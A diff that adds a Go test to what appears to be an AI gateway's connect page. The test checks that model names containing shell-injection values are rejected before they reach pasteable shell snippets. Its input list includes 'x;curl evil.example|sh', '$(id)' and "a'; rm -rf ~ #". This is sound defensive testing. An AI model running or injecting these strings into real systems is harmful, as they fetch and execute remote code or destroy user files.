@@ -6,6 +6,8 @@ import (
 	"regexp"
 	"strings"
 	"testing"
+
+	"github.com/genway/genway/core/keys"
 )
 
 // Sessions are listed with who they are of, and end at once when somebody ends them.
@@ -59,6 +61,30 @@ func TestConnect(t *testing.T) {
 		if who, err := f.keys.Authenticate(t.Context(), raw); err != nil || string(who.Group) != group || strings.Count(got.body, raw) < 2 || strings.Contains(got.body, "{KEY}") {
 			t.Errorf("%s: %v %v", group, who, err)
 		}
+	}
+}
+
+// A link's model is in a snippet, which operators paste into shells, only if it cannot be more than a name there.
+func TestConnectToAnyModel(t *testing.T) {
+	f := open(t)
+	session := f.signIn(t, f.root)
+	for _, group := range []string{"chat", "messages", "generatecontent", "internal"} {
+		for _, model := range []string{"x;curl evil.example|sh", "$(id)", "`id`", "a'; rm -rf ~ #", `a"); import os`, "-x", "a\nb", "a b", "x&y", "{KEY}", "m\x00", "é", strings.Repeat("a", 200)} {
+			for how, got := range map[string]answer{
+				"a link": f.get(t, session, "/connect?"+url.Values{"group": {group}, "model": {model}}.Encode()),
+				"a form": f.post(t, session, "/connect", url.Values{"group": {group}, "model": {model}, "name": {"of it"}}),
+			} {
+				if got.code != http.StatusBadRequest || strings.Contains(got.body, `id="snippet-`) || rawKey.MatchString(got.body) {
+					t.Errorf("%s, %s, %q: %d %s", how, group, model, got.code, got.body)
+				}
+			}
+		}
+	}
+	if n := count(t, f, keys.GroupChat); n != 0 {
+		t.Errorf("%d keys were made", n)
+	}
+	if got := f.get(t, session, "/connect?group=chat&model=@cf/meta/llama-3.1:8b"); got.code != http.StatusOK || !strings.Contains(got.body, "@cf/meta/llama-3.1:8b") {
+		t.Errorf("%d %s", got.code, got.body)
 	}
 }
 
